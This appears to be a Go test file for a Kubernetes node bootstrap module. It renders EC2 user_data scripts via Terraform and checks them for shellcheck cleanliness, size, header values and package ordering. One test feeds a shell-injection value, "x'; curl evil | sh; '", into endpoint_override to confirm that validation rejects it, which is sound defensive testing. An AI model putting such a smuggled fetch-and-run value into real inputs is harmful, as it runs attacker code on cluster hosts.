package bootstrap

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/json"
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/ochestra-tech/kubeopera/plugins/internal/upstream"
)

const (
	testClusterID = "3f2a9c1e-7b4d-4e8a-9f00-0a1b2c3d4e5f"
	testKMSKey    = "arn:aws:kms:eu-north-1:123456789012:key/0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0"
)

// variant is one module call of the render probe.
type variant struct {
	role              string
	index             int
	endpointOverride  string
	untaint           bool
	waitTimeoutSecond int
	// patch is the exact Kubernetes release to install ("" for the newest).
	patch string
	// public is the public endpoint (the internet-facing NLB).
	public string
	// nonce is the relay nonce ("" for none).
	nonce string
	// kmsKey encrypts the published admin kubeconfig ("" for aws/ssm).
	kmsKey string
	// minor is the Kubernetes minor ("" for 1.36).
	minor string
}

func (v variant) kubernetes() string {
	if v.minor == "" {
		return "1.36"
	}
	return v.minor
}

// variants are the scripts the tests run: three control planes and workers
// behind an NLB, a member 1 with a one-second wait, and a lone control plane
// without endpoint override or workers.
var variants = map[string]variant{
	"cp0": {role: "control-plane", index: 0, endpointOverride: "api.kubeopera.test", waitTimeoutSecond: 300, public: "public.kubeopera.test",
		kmsKey: testKMSKey},
	"cp1":           {role: "control-plane", index: 1, endpointOverride: "api.kubeopera.test", waitTimeoutSecond: 300, public: "public.kubeopera.test"},
	"cp2":           {role: "control-plane", index: 2, endpointOverride: "api.kubeopera.test", waitTimeoutSecond: 300, public: "public.kubeopera.test"},
	"worker":        {role: "worker", waitTimeoutSecond: 300},
	"cp1_short":     {role: "control-plane", index: 1, endpointOverride: "api.kubeopera.test", waitTimeoutSecond: 2},
	"single_cp0":    {role: "control-plane", index: 0, untaint: true, waitTimeoutSecond: 300, patch: "1.36.2", public: "single-public.kubeopera.test"},
	"single_worker": {role: "worker", waitTimeoutSecond: 300},
	"nonce_worker":  {role: "worker", waitTimeoutSecond: 300, nonce: "n0nce"},
	// rotated_worker is a worker of the single_cp0 cluster told another
	// relay nonce, with a two-second wait.
	"rotated_worker": {role: "worker", waitTimeoutSecond: 2, nonce: "r0tated"},
	"single_cp0_135": {role: "control-plane", index: 0, untaint: true, waitTimeoutSecond: 300, public: "single-public.kubeopera.test",
		minor: "1.35"},
	"single_cp0_137": {role: "control-plane", index: 0, untaint: true, waitTimeoutSecond: 300, public: "single-public.kubeopera.test",
		minor: "1.37"},
}

// pollInterval is the relay poll interval the scripts are rendered with:
// short enough for a quick test, long enough not to flood a loaded machine
// with stub processes.
const pollInterval = "0.2"

// renderedScripts holds the probe's outputs, rendered once per test binary.
var renderedScripts struct {
	once       sync.Once
	scripts    map[string]string
	parameters map[string]string
	prefix     string
	err        error
}

// scripts renders every variant with the real terraform binary: init and
// apply of a root that calls the embedded module once per variant.
func scripts(t *testing.T) map[string]string {
	t.Helper()
	r := &renderedScripts
	r.once.Do(func() { r.err = renderAll() })
	if r.err != nil {
		t.Fatal(r.err)
	}
	return r.scripts
}

func renderAll() error {
	dir, err := os.MkdirTemp("", "bootstrap-render-")
	if err != nil {
		return err
	}
	defer os.RemoveAll(dir)
	if err := copyModule(filepath.Join(dir, "modules", ModuleDir)); err != nil {
		return err
	}
	if err := os.WriteFile(filepath.Join(dir, "main.tf"), []byte(probeRoot()), 0o600); err != nil {
		return err
	}
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	for _, args := range [][]string{{"init", "-input=false"}, {"apply", "-input=false", "-auto-approve"}} {
		if _, err := runTerraform(ctx, dir, args...); err != nil {
			return err
		}
	}
	out, err := runTerraform(ctx, dir, "output", "-json")
	if err != nil {
		return err
	}
	var outputs map[string]struct {
		Value json.RawMessage `json:"value"`
	}
	if err := json.Unmarshal(out, &outputs); err != nil {
		return fmt.Errorf("terraform output -json: %w", err)
	}
	r := &renderedScripts
	r.scripts = map[string]string{}
	for name := range variants {
		var s string
		if err := json.Unmarshal(outputs[name].Value, &s); err != nil {
			return fmt.Errorf("output %s: %w", name, err)
		}
		r.scripts[name] = s
	}
	if err := json.Unmarshal(outputs["parameters"].Value, &r.parameters); err != nil {
		return fmt.Errorf("output parameters: %w", err)
	}
	return json.Unmarshal(outputs["ssm_prefix"].Value, &r.prefix)
}

// probePins is the pins input of a probe variant of Kubernetes minor, as
// the plugins pass it, as an HCL object.
func probePins(minor string) string {
	pins, err := Pins(minor)
	if err != nil {
		panic(err)
	}
	keys := make([]string, 0, len(pins))
	for k := range pins {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	var b strings.Builder
	b.WriteString("{\n")
	for _, k := range keys {
		fmt.Fprintf(&b, "    %s = %q\n", k, pins[k])
	}
	b.WriteString("  }")
	return b.String()
}

func probeRoot() string {
	var b strings.Builder
	names := make([]string, 0, len(variants))
	for name := range variants {
		names = append(names, name)
	}
	sort.Strings(names)
	for _, name := range names {
		v := variants[name]
		fmt.Fprintf(&b, `module %q {
  source                = "./modules/%s"
  cluster_id            = %q
  relay_nonce           = %q
  region                = "eu-north-1"
  role                  = %q
  index                 = %d
  kubernetes_version    = %q
  kubernetes_patch      = %q
  endpoint_override     = %q
  public_endpoint       = %q
  kubeconfig_kms_key    = %q
  untaint_control_plane = %t
  poll_interval_seconds = %s
  wait_timeout_seconds  = %d
  pins                  = %s
}

output %q {
  value = module.%s.script
}

`, name, ModuleDir, testClusterID, v.nonce, v.role, v.index, v.kubernetes(), v.patch, v.endpointOverride, v.public, v.kmsKey, v.untaint, pollInterval,
			v.waitTimeoutSecond, probePins(v.kubernetes()), name, name)
	}
	b.WriteString("output \"parameters\" {\n  value = module.cp0.parameters\n}\n\n" +
		"output \"ssm_prefix\" {\n  value = module.cp0.ssm_prefix\n}\n")
	return b.String()
}

// copyModule writes the embedded module, exactly what ships, to dir.
func copyModule(dir string) error {
	return fs.WalkDir(Module(), ".", func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		data, err := fs.ReadFile(Module(), p)
		if err != nil {
			return err
		}
		dst := filepath.Join(dir, filepath.FromSlash(p))
		if err := os.MkdirAll(filepath.Dir(dst), 0o755); err != nil {
			return err
		}
		return os.WriteFile(dst, data, 0o644)
	})
}

// runTerraform runs the real terraform in dir, offline: no CLI config, no
// update check.
func runTerraform(ctx context.Context, dir string, args ...string) ([]byte, error) {
	bin, err := exec.LookPath("terraform")
	if err != nil {
		return nil, fmt.Errorf("terraform is not on PATH (expected /usr/local/bin/terraform): %w", err)
	}
	cmd := exec.CommandContext(ctx, bin, append(args[:1:1], append([]string{"-no-color"}, args[1:]...)...)...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "TF_CLI_CONFIG_FILE=/dev/null", "CHECKPOINT_DISABLE=1", "TF_IN_AUTOMATION=1")
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	if err := cmd.Run(); err != nil {
		return nil, fmt.Errorf("terraform %s: %w\n%s%s", strings.Join(args, " "), err, stdout.String(), stderr.String())
	}
	return stdout.Bytes(), nil
}

func TestRenderedScriptsAreShellcheckClean(t *testing.T) {
	bin, err := exec.LookPath("shellcheck")
	if err != nil {
		t.Fatalf("shellcheck is not installed; every rendered user_data script must pass it. "+
			"Install it with hack/ensure-shellcheck.sh (apt-get install -y shellcheck): %v", err)
	}
	dir := t.TempDir()
	var files []string
	for name, s := range scripts(t) {
		f := filepath.Join(dir, name+".sh")
		if err := os.WriteFile(f, []byte(s), 0o600); err != nil {
			t.Fatal(err)
		}
		files = append(files, f)
	}
	sort.Strings(files)
	stubs, err := filepath.Glob("testdata/stubs/*")
	if err != nil {
		t.Fatal(err)
	}
	for i, s := range stubs {
		stubs[i] = filepath.Base(s)
	}
	// No exclusions: clean at every severity, style included. The stubs are
	// checked from their directory so -x follows their "source lib.sh".
	for _, run := range []struct {
		dir   string
		files []string
	}{{".", files}, {"testdata/stubs", stubs}} {
		cmd := exec.Command(bin, append([]string{"-x", "--severity=style"}, run.files...)...)
		cmd.Dir = run.dir
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Errorf("shellcheck found problems: %v\n%s", err, out)
		}
	}
}

func TestRenderedScriptsFitEC2UserData(t *testing.T) {
	// EC2 takes at most 16 KB of user_data (before base64). The modules send
	// the script gzipped (base64gzip), so that is what must fit; half of it
	// leaves room to grow.
	for name, s := range scripts(t) {
		var gz bytes.Buffer
		w := gzip.NewWriter(&gz)
		if _, err := w.Write([]byte(s)); err != nil || w.Close() != nil {
			t.Fatal(err)
		}
		if gz.Len() >= 8<<10 {
			t.Errorf("%s: gzipped script is %d bytes, over half of EC2's 16 KB user_data limit", name, gz.Len())
		}
		if !strings.HasPrefix(s, "#!/bin/bash\n") {
			t.Errorf("%s: script does not start with #!/bin/bash, so cloud-init would not run it", name)
		}
	}
}

func TestHeaderCarriesTheInputs(t *testing.T) {
	s := scripts(t)
	for name, want := range map[string][]string{
		"cp1":        {"KO_ROLE='control-plane'", "KO_INDEX='1'", "KO_ENDPOINT_OVERRIDE='api.kubeopera.test'", "KO_KUBERNETES_VERSION='1.36'", "KO_POLL_INTERVAL='0.2'"},
		"worker":     {"KO_ROLE='worker'", "KO_UNTAINT_CONTROL_PLANE='false'"},
		"single_cp0": {"KO_ENDPOINT_OVERRIDE=''", "KO_UNTAINT_CONTROL_PLANE='true'", "KO_KUBERNETES_PATCH='1.36.2'"},
		"cp0":        {"KO_KUBERNETES_PATCH=''", "KO_CONTAINERD_VERSION='" + upstream.Containerd.Version + "'", "KO_ARCH='amd64'"},
		"nonce_worker": {"KO_PARAM_MEMBERS='" + PrefixWithNonce(testClusterID, "n0nce") + "/members'",
			"KO_PARAM_WORKER_JOIN='" + PrefixWithNonce(testClusterID, "n0nce") + "/join/worker'"},
	} {
		for _, w := range want {
			if !strings.Contains(s[name], w+"\n") {
				t.Errorf("%s: header has no line %s", name, w)
			}
		}
	}
}

func TestModuleNamesTheParametersOfThisPackage(t *testing.T) {
	scripts(t)
	r := &renderedScripts
	want := map[string]string{
		"admin_kubeconfig":   AdminKubeconfigParameter(testClusterID),
		"worker_join":        WorkerJoinParameter(testClusterID),
		"control_plane_join": ControlPlaneJoinParameter(testClusterID),
		"members":            strings.TrimSuffix(MemberParameter(testClusterID, 0), "/0"),
		"workers":            strings.TrimSuffix(WorkerParameter(testClusterID, "i-x"), "/i-x"),
	}
	if fmt.Sprint(r.parameters) != fmt.Sprint(want) {
		t.Errorf("module parameters = %v, Go names = %v", r.parameters, want)
	}
	if r.prefix != Prefix(testClusterID) {
		t.Errorf("module ssm_prefix = %q, Prefix() = %q", r.prefix, Prefix(testClusterID))
	}
}

func TestModuleRefusesValuesThatCouldEscapeTheHeader(t *testing.T) {
	dir := t.TempDir()
	if err := copyModule(filepath.Join(dir, "modules", ModuleDir)); err != nil {
		t.Fatal(err)
	}
	root := fmt.Sprintf(`module "bad" {
  source             = "./modules/%s"
  cluster_id         = "c1"
  region             = "eu-north-1"
  role               = "control-plane"
  kubernetes_version = "1.36"
  endpoint_override  = "x'; curl evil | sh; '"
  pins               = %s
}
`, ModuleDir, probePins("1.36"))
	if err := os.WriteFile(filepath.Join(dir, "main.tf"), []byte(root), 0o600); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	if _, err := runTerraform(ctx, dir, "init", "-input=false"); err != nil {
		t.Fatal(err)
	}
	_, err := runTerraform(ctx, dir, "plan", "-input=false")
	if err == nil || !strings.Contains(err.Error(), "endpoint_override must be a DNS name or an IP address") {
		t.Fatalf("plan with a quote in endpoint_override: want the validation error, got %v", err)
	}
}

// The nodes' script runs with HOME set, from cloud-init and from its
// systemd units alike (kubectl's kustomize runs git, which needs it), and
// installs the pinned CNI plugins after the kubelet's package, whose
// kubernetes-cni dependency unpacks its own build into /opt/cni/bin, and
// holds that package.
func TestScriptsSetHomeAndKeepThePinnedCNIPlugins(t *testing.T) {
	for name, script := range scripts(t) {
		i := strings.Index(script, "\nmain() {")
		if i < 0 || !strings.Contains(strings.SplitN(script[i:], "mkdir", 2)[0], "export HOME=/root\n") {
			t.Errorf("%s: main does not export HOME=/root before its first step", name)
		}
		if n := strings.Count(script, "'Environment=HOME=/root'"); n != 2 {
			t.Errorf("%s: %d systemd units set HOME, want both refreshers'", name, n)
		}
		kubelet := strings.Index(script, `apt_get install "kubelet$pin"`)
		plugins := strings.LastIndex(script, "\tinstall_cni_plugins\n")
		if kubelet < 0 || plugins < kubelet {
			t.Errorf("%s: the pinned CNI plugins (at %d) are not installed after the kubelet's package (at %d)", name, plugins, kubelet)
		}
		if !strings.Contains(script, "apt-mark hold kubelet kubeadm kubectl kubernetes-cni") {
			t.Errorf("%s: kubernetes-cni is not held", name)
		}
	}
}
